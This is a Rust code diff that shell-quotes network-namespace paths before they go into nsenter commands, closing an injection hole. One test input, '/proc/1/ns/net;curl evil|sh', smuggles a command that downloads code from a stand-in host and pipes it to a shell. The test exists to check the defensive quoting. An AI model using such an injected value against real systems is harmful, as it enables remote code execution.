@@ -3,6 +3,7 @@
 
 use crate::aggregate::observed::Observed;
 use crate::kernel::rules::Sysctls;
+use crate::outside;
 
 /// One network namespace, seen from the shell that will run the fix.
 pub(crate) struct Place {
@@ -20,7 +21,7 @@ impl Place {
         let known = observed.spaces.get(&netns);
         let prefix = match (is_own, known.and_then(|space| space.entrance.as_deref()), pid) {
             (true, ..) => Some(String::new()),
-            (false, Some(entrance), _) => Some(format!("nsenter --net={entrance} ")),
+            (false, Some(entrance), _) => Some(format!("nsenter --net={} ", outside::shell_word(entrance))),
             (false, None, Some(pid)) => Some(format!("nsenter -t {pid} -n ")),
             (false, None, None) => None,
         };
@@ -30,7 +31,8 @@ impl Place {
 
     /// With a file by which nsenter(1) gets there; `None`: the shell is there already.
     pub(crate) fn behind(netns: u32, entrance: Option<&str>, sysctls: Sysctls) -> Self {
-        let prefix = entrance.map_or_else(String::new, |entrance| format!("nsenter --net={entrance} "));
+        let prefix =
+            entrance.map_or_else(String::new, |entrance| format!("nsenter --net={} ", outside::shell_word(entrance)));
         Self { netns, prefix: Some(prefix), sysctls }
     }
 
@@ -60,6 +62,8 @@ mod tests {
         let place = |netns, pid| Place::of(&observed, &own, netns, pid);
         assert_eq!((place(1, None).command("x"), place(1, None).sysctls.tcp_tw_reuse), ("x".into(), Some(2)));
         assert_eq!(place(2, Some(9)).command("x"), "nsenter --net=/run/netns/blue x");
+        let edited = Place::behind(2, Some("/proc/1/ns/net;curl evil|sh"), Sysctls::default());
+        assert_eq!(edited.command("x"), "nsenter --net='/proc/1/ns/net;curl evil|sh' x");
         assert_eq!(place(2, None).sysctls.tcp_tw_reuse, Some(0));
         assert_eq!(place(3, Some(9)).command("x"), "nsenter -t 9 -n x");
         assert_eq!(place(3, None).command("x"), "# in network namespace 3: x");
